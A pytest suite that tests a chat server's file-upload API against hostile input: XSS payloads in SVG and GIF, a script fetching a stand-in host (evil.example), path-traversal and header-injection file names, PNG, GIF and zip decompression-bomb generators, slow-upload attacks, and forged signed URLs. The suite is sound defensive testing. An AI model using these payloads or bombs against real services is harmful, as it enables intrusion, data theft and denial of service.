"""Hostile files and hostile senders, over a real socket: all are refused, and leave nothing."""

import asyncio
import io
import json
import struct
import zipfile
import zlib
from collections.abc import AsyncIterator, Callable
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import asyncpg
import httpx
import pytest
from PIL import Image
from sqlalchemy.engine import make_url

from tests.support.replica import Page, Replica, message
from tests.support.waiting import until

LIMIT = 200_000
IDLE_TIMEOUT = 1.0
TIMEOUT = 4.0
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><script>fetch('//evil.example')</script>"


@dataclass
class Server:
    """A server process, and a look behind it."""

    replica: Replica
    files: Path
    database_url: str

    async def traces(self) -> tuple[list[str], list[str]]:
        """Return what there is of uploads: the stored files, and the ids in the database."""
        url = make_url(self.database_url)
        connection = await asyncpg.connect(
            host=url.host or url.query.get("host"),
            port=url.port or int(url.query.get("port", 5432)),
            user=url.username,
            password=url.password,
            database=url.database,
        )
        try:
            rows = await connection.fetch("SELECT id FROM attachments ORDER BY id")
        finally:
            await connection.close()
        stored = sorted(str(each) for each in self.files.rglob("*") if each.is_file())
        return stored, [row["id"] for row in rows]

    async def settles_at(self, traces: tuple[list[str], list[str]]) -> None:
        """Wait until there is no more than there was; what is cleaned up late is cleaned up."""

        async def is_settled() -> bool:
            return await self.traces() == traces

        await until(is_settled)

    @property
    def memory(self) -> int:
        """The memory of the process, in bytes."""
        status = Path(f"/proc/{self.replica.process.pid}/status").read_text()
        return int(status.partition("VmRSS:")[2].split()[0]) * 1024


@pytest.fixture(scope="module")
async def server(
    database_url: str, tmp_path_factory: pytest.TempPathFactory
) -> AsyncIterator[Server]:
    directory = tmp_path_factory.mktemp("hostile")
    replica = Replica(
        database_url,
        directory,
        upload_max_bytes=LIMIT,
        upload_idle_timeout=IDLE_TIMEOUT,
        upload_timeout=TIMEOUT,
        upload_url_ttl=2,
        file_url_ttl=2,
        session_requests_per_minute=0,
        user_requests_per_minute=0,
    )
    yield Server(await replica.start(), directory / "data" / "files", database_url)
    await replica.kill()


@pytest.fixture
async def page(server: Server) -> AsyncIterator[Page]:
    async with Page(server.replica.url) as page:
        yield page


@pytest.fixture
async def other_page(server: Server) -> AsyncIterator[Page]:
    """A page of somebody else."""
    async with Page(server.replica.url) as page:
        yield page


async def post(page: Page, name: str, declared: str, data: bytes) -> httpx.Response:
    """Upload a file directly."""
    files = {"file": (name, data, declared)}
    return await page.client.post("/api/uploads", files=files, headers=page.headers)


async def announce(page: Page, name: str, declared: str, size: int) -> dict[str, Any]:
    """Begin an upload in two phases; return the attachment with its descriptor."""
    return await page.ask("attachments.create", name=name, mime_type=declared, size=size)


async def put(attachment: dict[str, Any], data: Any) -> httpx.Response:
    """Send the bytes of an announced file, raw."""
    descriptor = attachment["upload_descriptor"]
    async with httpx.AsyncClient(timeout=30) as client:
        return await client.request(
            descriptor["method"],
            descriptor["url"],
            content=data,
            headers=descriptor.get("headers", {}),
        )


async def send(page: Page, *attachment_ids: str) -> httpx.Response:
    """Send a message with these attachments."""
    params = {"input": message("look") | {"attachments": list(attachment_ids)}}
    body = {"type": "threads.create", "params": params}
    return await page.client.post("/chatkit", json=body, headers=page.headers)


def refused(response: httpx.Response, *statuses: int) -> str:
    """Return the message of a refusal that is as it should be."""
    assert response.status_code in (statuses or range(400, 500)), response.text
    error = response.json()["error"]
    assert error["request_id"]
    return error["message"]


def image(kind: str = "PNG") -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (40, 30), "red").save(buffer, kind)
    return buffer.getvalue()


def png_bomb(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        length, check = struct.pack(">I", len(data)), struct.pack(">I", zlib.crc32(kind + data))
        return length + kind + data + check

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(bytes(50_000_000), 9)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def zip_bomb() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as file:
        file.writestr("[Content_Types].xml", "<Types/>")
        file.writestr("word/document.xml", bytes(100_000_000))
    return buffer.getvalue()


def gif_bomb() -> bytes:
    gif = bytearray(image("GIF"))
    place = gif.index(b",\0\0\0\0")
    gif[place + 5 : place + 9] = struct.pack("<HH", 65_535, 65_535)
    return bytes(gif)


# --- files that are not what they seem -----------------------------------------------------------

# Large ones are made when they are needed.
WRONG: dict[str, tuple[str, str, bytes | Callable[[], bytes]]] = {
    "script as image": ("a.png", "image/png", HTML),
    "SVG as PNG": ("a.png", "image/png", SVG),
    "SVG as itself": ("a.svg", "image/svg+xml", SVG),
    "JPEG as PNG": ("a.png", "image/png", image("JPEG")),
    "program as PDF": ("a.pdf", "application/pdf", b"MZ\x90\0\x03\0\0\0"),
    "program as nothing": ("a.exe", "application/octet-stream", b"MZ\x90\0\x03\0\0\0"),
    "page as PDF": ("a.pdf", "application/pdf", HTML),
    "PDF as text": ("a.txt", "text/plain", b"%PDF-1.7\n"),
    "binary as text": ("a.txt", "text/plain", bytes(range(256))),
    "text as Word": ("a.docx", DOCX, b"words"),
    "GIF with script": ("a.gif", "image/gif", b"GIF89a/*" + bytes(20) + b"*/=alert(1)//"),
    "PDF behind a PNG's head": ("a.png", "image/png", b"\x89PNG\r\n\x1a\n%PDF-1.7\n"),
    "half an image": ("a.png", "image/png", image()[:60]),
    "PNG bomb": ("a.png", "image/png", lambda: png_bomb(60_000, 60_000)),
    "long thin PNG bomb": ("a.png", "image/png", lambda: png_bomb(2**31 - 1, 1)),
    "GIF bomb": ("a.gif", "image/gif", gif_bomb),
    "no type at all": ("a", "\u2603/\u2603", bytes(range(256))),
}


@pytest.mark.parametrize("case", WRONG)
@pytest.mark.parametrize("strategy", ["direct", "two_phase"])
async def test_file_that_is_not_what_it_seems_is_refused(
    server: Server, page: Page, case: str, strategy: str
) -> None:
    name, declared, source = WRONG[case]
    data = source() if callable(source) else source
    before, memory = await server.traces(), server.memory
    if strategy == "direct":
        refused(await post(page, name, declared, data))
    else:
        params = {"name": name, "mime_type": declared, "size": len(data)}
        body = {"type": "attachments.create", "params": params}
        announced = await page.client.post("/chatkit", json=body, headers=page.headers)
        if announced.status_code == 200:
            refused(await put(announced.json(), data))
        else:
            refused(announced)
    await server.settles_at(before)
    assert server.memory - memory < 30_000_000


async def test_polyglot_is_one_thing_and_nothing_else(server: Server, page: Page) -> None:
    data = image() + b"\n" + zip_bomb()[:2000] + HTML
    attachment = (await post(page, "a.png", "image/png", data)).json()
    assert (attachment["type"], attachment["mime_type"]) == ("image", "image/png")
    response = await page.client.get(attachment["preview_url"])
    assert response.headers["content-type"] == "image/webp"
    assert response.headers["x-content-type-options"] == "nosniff"
    # What is shown was made anew of the pixels.
    assert b"script" not in response.content


async def test_zip_bomb_is_never_unpacked(server: Server, page: Page) -> None:
    memory = server.memory
    bomb = zip_bomb()
    assert len(bomb) < LIMIT
    response = await post(page, "a.docx", DOCX, bomb)
    assert response.status_code == 200, response.text
    answer = await send(page, response.json()["id"])
    assert "a.docx" in answer.text
    assert server.memory - memory < 30_000_000


async def test_page_under_the_name_of_text_is_text_and_never_shown(
    server: Server, page: Page
) -> None:
    attachment = (await post(page, "a.txt", "text/plain", HTML)).json()
    assert (attachment["type"], attachment["mime_type"]) == ("file", "text/plain")
    assert "preview_url" not in attachment


# --- names ---------------------------------------------------------------------------------------

NAMES = [
    "../../../etc/passwd",
    "..\\..\\windows\\system32\\a.txt",
    "/etc/passwd",
    "a\r\nSet-Cookie: session=stolen.txt",
    'a"; filename="b.exe',
    "con.txt",
    "\u202etxt.exe",
    "名前.txt",
    "x" * 250 + ".txt",
    ".",
    "%2e%2e%2fa.txt",
]


@pytest.mark.parametrize("name", NAMES)
async def test_name_is_data_and_never_a_path(server: Server, page: Page, name: str) -> None:
    stored, _ = await server.traces()
    attachment = await announce(page, name, "text/plain", 5)
    assert "upload_descriptor" in attachment
    response = await put(attachment, b"words")
    assert response.status_code in (200, 201, 204), response.text
    assert "set-cookie" not in response.headers
    new = [each for each in (await server.traces())[0] if each not in stored]
    assert len(new) == 1
    path = Path(new[0])
    assert path.resolve().is_relative_to(server.files.resolve())
    assert not any(part in path.name for part in ("passwd", "a.txt", "exe", "名前", "xxx"))


@pytest.mark.parametrize("name", ["", "x" * 5000, "a\0b.txt"])
async def test_name_that_is_none_is_refused_or_cleaned(
    server: Server, page: Page, name: str
) -> None:
    params = {"name": name, "mime_type": "text/plain", "size": 5}
    body = {"type": "attachments.create", "params": params}
    response = await page.client.post("/chatkit", json=body, headers=page.headers)
    if response.status_code == 200:
        shown = response.json()["name"]
        assert 0 < len(shown) <= 300
        assert "\0" not in shown
    else:
        refused(response, 400, 422)


# --- sizes ---------------------------------------------------------------------------------------


async def test_file_of_exactly_the_limit_is_taken(page: Page) -> None:
    response = await post(page, "a.txt", "text/plain", b"x" * LIMIT)
    assert response.status_code == 200, response.text


@pytest.mark.parametrize(("size", "status"), [(0, 422), (LIMIT + 1, 413), (LIMIT * 20, 413)])
async def test_file_of_a_wrong_size_is_refused(
    server: Server, page: Page, size: int, status: int
) -> None:
    before = await server.traces()
    refused(await post(page, "a.txt", "text/plain", b"x" * size), status, 400, 413, 422)
    await server.settles_at(before)


@pytest.mark.parametrize("announced", [0, -1, LIMIT + 1, 2**62])
async def test_announcing_a_wrong_size_is_refused(
    server: Server, page: Page, announced: int
) -> None:
    before = await server.traces()
    params = {"name": "a.txt", "mime_type": "text/plain", "size": announced}
    body = {"type": "attachments.create", "params": params}
    refused(await page.client.post("/chatkit", json=body, headers=page.headers), 400, 413, 422)
    await server.settles_at(before)


@pytest.mark.parametrize("sent", [1, 99, 101, LIMIT + 1])
async def test_other_size_than_announced_is_refused(server: Server, page: Page, sent: int) -> None:
    before = await server.traces()
    attachment = await announce(page, "a.txt", "text/plain", 100)
    refused(await put(attachment, b"x" * sent))
    assert (await server.traces())[0] == before[0]


async def test_body_without_a_length_is_cut_at_the_limit(server: Server, page: Page) -> None:
    before = await server.traces()
    sent = 0

    async def endless() -> AsyncIterator[bytes]:
        nonlocal sent
        yield multipart_head("a.txt")
        while sent < LIMIT * 100:
            sent += 10_000
            yield b"x" * 10_000

    try:
        response = await page.client.post(
            "/api/uploads", content=endless(), headers=page.headers | MULTIPART
        )
        refused(response, 413)
    except httpx.TransportError:
        pass  # hung up on: the answer may be lost with the connection
    assert sent < LIMIT * 100
    await server.settles_at(before)


BOUNDARY = "b0undary"
MULTIPART = {"Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}


def multipart_head(name: str) -> bytes:
    return (
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\n'
        "Content-Type: text/plain\r\n\r\n"
    ).encode()


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"no parts here",
        multipart_head("a.txt"),
        multipart_head("a.txt") + b"words",
        multipart_head("a.txt") + f"words\r\n--{BOUNDARY}".encode(),
        f"--{BOUNDARY}--\r\n".encode(),
        multipart_head("a.txt").replace(b'name="file"', b'name="other"')
        + f"words\r\n--{BOUNDARY}--\r\n".encode(),
        multipart_head("a.txt")
        + b"one\r\n"
        + multipart_head("b.txt")
        + f"two\r\n--{BOUNDARY}--\r\n".encode(),
        b"X" * 20_000 + multipart_head("a.txt") + f"words\r\n--{BOUNDARY}--\r\n".encode(),
        f"--{BOUNDARY}\r\n".encode() + b"X-Long: " + b"x" * 100_000,
    ],
)
async def test_broken_form_is_refused(server: Server, page: Page, body: bytes) -> None:
    before = await server.traces()
    response = await page.client.post(
        "/api/uploads", content=body, headers=page.headers | MULTIPART
    )
    refused(response, 400, 413, 422)
    await server.settles_at(before)


async def test_form_with_an_endless_boundary_is_refused(page: Page) -> None:
    headers = page.headers | {"Content-Type": f"multipart/form-data; boundary={'b' * 257}"}
    refused(await page.client.post("/api/uploads", content=b"x", headers=headers), 400)


async def test_form_is_refused_when_too_much_precedes_the_file(server: Server, page: Page) -> None:
    before = await server.traces()

    async def form() -> AsyncIterator[bytes]:
        yield multipart_head("a.txt").replace(b'name="file"', b'name="other"')
        for _ in range(15):
            yield b"x" * 10_000
        yield b"\r\n" + multipart_head("a.txt") + f"words\r\n--{BOUNDARY}--\r\n".encode()

    response = await page.client.post(
        "/api/uploads", content=form(), headers=page.headers | MULTIPART
    )
    assert "precedes" in refused(response, 400)
    await server.settles_at(before)


@pytest.mark.parametrize("length", [1000, 3])
async def test_wrong_content_length_leaves_nothing(server: Server, page: Page, length: int) -> None:
    before = await server.traces()
    reader, writer = await asyncio.open_connection("127.0.0.1", server.replica.port)
    body = multipart_head("a.txt") + f"words\r\n--{BOUNDARY}--\r\n".encode()
    head = "\r\n".join(
        [
            "POST /api/uploads HTTP/1.1",
            "Host: localhost",
            f"Authorization: {page.headers['Authorization']}",
            f"Content-Type: {MULTIPART['Content-Type']}",
            f"Content-Length: {len(body) + length if length > 100 else length}",
            "",
            "",
        ]
    )
    writer.write(head.encode() + body)
    await writer.drain()
    if length > 100:
        writer.close()  # in the middle of what was promised
    else:
        assert b" 4" in (await reader.read(1000)).splitlines()[0]
        writer.close()
    await server.settles_at(before)


async def test_upload_that_stands_still_is_ended(server: Server, page: Page) -> None:
    before = await server.traces()
    reader, writer = await asyncio.open_connection("127.0.0.1", server.replica.port)
    head = (
        "POST /api/uploads HTTP/1.1\r\nHost: localhost\r\n"
        f"Authorization: {page.headers['Authorization']}\r\n"
        f"Content-Type: {MULTIPART['Content-Type']}\r\nContent-Length: 5000\r\n\r\n"
    )
    writer.write(head.encode() + multipart_head("a.txt") + b"some words")
    await writer.drain()
    answer = await asyncio.wait_for(reader.read(2000), IDLE_TIMEOUT * 20)
    assert not answer or b" 408 " in answer.splitlines()[0] + b" " or b" 4" in answer[:12]
    writer.close()
    await server.settles_at(before)


async def test_upload_that_trickles_in_is_ended(server: Server, page: Page) -> None:
    """A byte now and then is no silence."""
    before = await server.traces()
    attachment = await announce(page, "a.txt", "text/plain", 10_000)

    async def trickle() -> AsyncIterator[bytes]:
        while True:
            yield b"x"
            await asyncio.sleep(IDLE_TIMEOUT / 10)

    # A connection that is closed while bytes arrive may take the answer with it.
    with suppress(httpx.TransportError):
        answer = await asyncio.wait_for(put(attachment, trickle()), TIMEOUT * 20)
        refused(answer, 400)
        assert "took longer" in answer.text
    await page.ask("attachments.delete", attachment_id=attachment["id"])
    await server.settles_at(before)


# --- states and races ----------------------------------------------------------------------------


async def test_one_of_two_parallel_uploads_wins(server: Server, page: Page) -> None:
    attachment = await announce(page, "a.txt", "text/plain", 50_000)
    letters = (b"a", b"b", b"c")
    responses = await asyncio.gather(*(put(attachment, each * 50_000) for each in letters))
    statuses = sorted(each.status_code for each in responses)
    assert statuses[0] in (200, 201, 204)
    assert statuses[1:] == [409, 409]
    answer = await send(page, attachment["id"])
    winner = next(
        letter
        for letter, response in zip(letters, responses, strict=True)
        if response.status_code < 300
    )
    assert answer.status_code == 200
    (path,) = [each for each in (await server.traces())[0] if attachment["id"] in each]
    assert Path(path).read_bytes() == winner * 50_000


async def test_finished_file_cannot_be_changed(server: Server, page: Page) -> None:
    attachment = await announce(page, "a.txt", "text/plain", 5)
    assert (await put(attachment, b"first")).status_code < 300
    refused(await put(attachment, b"other"), 409)
    await send(page, attachment["id"])
    refused(await put(attachment, b"other"), 409, 403)


async def test_upload_fails_when_it_is_deleted_meanwhile(server: Server, page: Page) -> None:
    before = await server.traces()
    attachment = await announce(page, "a.txt", "text/plain", 20_000)
    begun, deleted = asyncio.Event(), asyncio.Event()

    async def slowly() -> AsyncIterator[bytes]:
        yield b"x" * 10_000
        begun.set()
        await deleted.wait()
        yield b"x" * 10_000

    upload = asyncio.create_task(put(attachment, slowly()))
    await begun.wait()
    await page.ask("attachments.delete", attachment_id=attachment["id"])
    deleted.set()
    refused(await upload, 404, 409, 410)
    refused(await send(page, attachment["id"]), 404, 422)
    await server.settles_at(before)


async def test_unfinished_file_cannot_be_sent(page: Page) -> None:
    attachment = await announce(page, "a.txt", "text/plain", 5)
    refused(await send(page, attachment["id"]), 409, 422)


async def test_file_is_bound_to_the_thread_that_it_was_sent_in(page: Page) -> None:
    attachment = (await post(page, "a.txt", "text/plain", b"words")).json()
    assert (await send(page, attachment["id"])).status_code == 200
    refused(await send(page, attachment["id"]), 409, 422)


# --- other people's files ------------------------------------------------------------------------


async def test_other_users_files_are_as_unknown_as_any(page: Page, other_page: Page) -> None:
    theirs = (await post(other_page, "a.txt", "text/plain", b"words")).json()["id"]
    for attachment_id in (theirs, "atc_unknown"):
        refused(await send(page, attachment_id), 404)
        body = {"type": "attachments.delete", "params": {"attachment_id": attachment_id}}
        refused(await page.client.post("/chatkit", json=body, headers=page.headers), 404)
    assert (await send(other_page, theirs)).status_code == 200


async def test_upload_needs_a_session(page: Page, server: Server) -> None:
    before = await server.traces()
    files = {"file": ("a.txt", b"words", "text/plain")}
    for headers in ({}, {"Authorization": "Bearer ek_made_up"}):
        refused(await page.client.post("/api/uploads", files=files, headers=headers), 401)
    assert await server.traces() == before


Forgery = Callable[[str, str, str], str]

FORGERIES: dict[str, Forgery] = {
    "half of another file's": lambda url, mine, theirs: (
        url[: -len(url) // 4] + theirs[-len(url) // 4 :]
    ),
    "a changed last letter": lambda url, mine, theirs: url[:-1] + ("A" if url[-1] != "A" else "B"),
    "a changed first letter": lambda url, mine, theirs: change_first_letter(url),
    "a cut signature": lambda url, mine, theirs: url[:-5],
    "padding": lambda url, mine, theirs: url + "==",
    "another purpose": lambda url, mine, theirs: change_purpose(url),
}


def change_first_letter(url: str) -> str:
    """Return the URL with another first letter of its token."""
    place, _, token = url.rpartition("/")
    return f"{place}/{'A' if token[0] != 'A' else 'B'}{token[1:]}"


def change_purpose(url: str) -> str:
    """Return the URL of the original file, by the token of something else."""
    return url.replace("/api/uploads/", "/api/files/").replace("/api/previews/", "/api/files/")


@pytest.mark.parametrize("forgery", FORGERIES)
async def test_tampered_upload_url_is_refused(
    server: Server, page: Page, other_page: Page, forgery: str
) -> None:
    mine = await announce(page, "a.txt", "text/plain", 5)
    theirs = await announce(other_page, "a.txt", "text/plain", 5)
    before = await server.traces()
    url = mine["upload_descriptor"]["url"]
    forged = FORGERIES[forgery](url, url, theirs["upload_descriptor"]["url"])
    assert forged != url
    method = mine["upload_descriptor"]["method"]
    response = await page.client.request(method, forged, content=b"words")
    refused(response, 401, 403, 404, 405)
    assert await server.traces() == before


@pytest.mark.parametrize("forgery", FORGERIES)
async def test_tampered_preview_url_is_refused(page: Page, other_page: Page, forgery: str) -> None:
    mine = (await post(page, "a.png", "image/png", image())).json()
    theirs = (await post(other_page, "a.png", "image/png", image())).json()
    assert (await page.client.get(mine["preview_url"])).status_code == 200
    forged = FORGERIES[forgery](mine["preview_url"], mine["id"], theirs["id"])
    response = await page.client.get(forged)
    refused(response, 401, 403, 404)


async def test_upload_url_is_no_good_for_reading(page: Page) -> None:
    attachment = await announce(page, "a.png", "image/png", len(image()))
    url = attachment["upload_descriptor"]["url"]
    assert (await put(attachment, image())).status_code < 300
    query = httpx.URL(url).query.decode()
    for path in (f"/api/files/{attachment['id']}", f"/api/files/{attachment['id']}/preview"):
        refused(await page.client.get(f"{path}?{query}"), 401, 403, 404)


async def test_expired_urls_are_refused(page: Page) -> None:
    attachment = await announce(page, "a.txt", "text/plain", 5)
    picture = (await post(page, "a.png", "image/png", image())).json()
    await asyncio.sleep(3.1)  # seconds count, and the TTL is two of them
    refused(await put(attachment, b"words"), 401, 403)
    refused(await page.client.get(picture["preview_url"]), 401, 403)
    # What is asked for anew has a new address.
    await send(page, picture["id"])
    threads = (await page.ask("threads.list", limit=1, order="desc"))["data"]
    items = await page.ask("items.list", thread_id=threads[0]["id"], order="asc")
    url = items["data"][0]["attachments"][0]["preview_url"]
    assert (await page.client.get(url)).status_code == 200


async def test_forged_placeholder_in_a_message_leads_nowhere(page: Page, other_page: Page) -> None:
    theirs = (await post(other_page, "a.png", "image/png", image())).json()["id"]
    texts = [
        f"attachment:{theirs}",
        f'"preview_url":"attachment:{theirs}"',
        f'x","url":"attachment:{theirs}',
    ]
    for text in texts:
        events = await page.create(text)
        (item,) = [e["item"] for e in events if e.get("item", {}).get("type") == "user_message"]
        assert item["content"][0]["text"] == text
        listed = await page.ask("items.list", thread_id=events[0]["thread"]["id"], order="asc")
        assert listed["data"][0]["content"][0]["text"] == text
        assert "signature" not in json.dumps(listed)
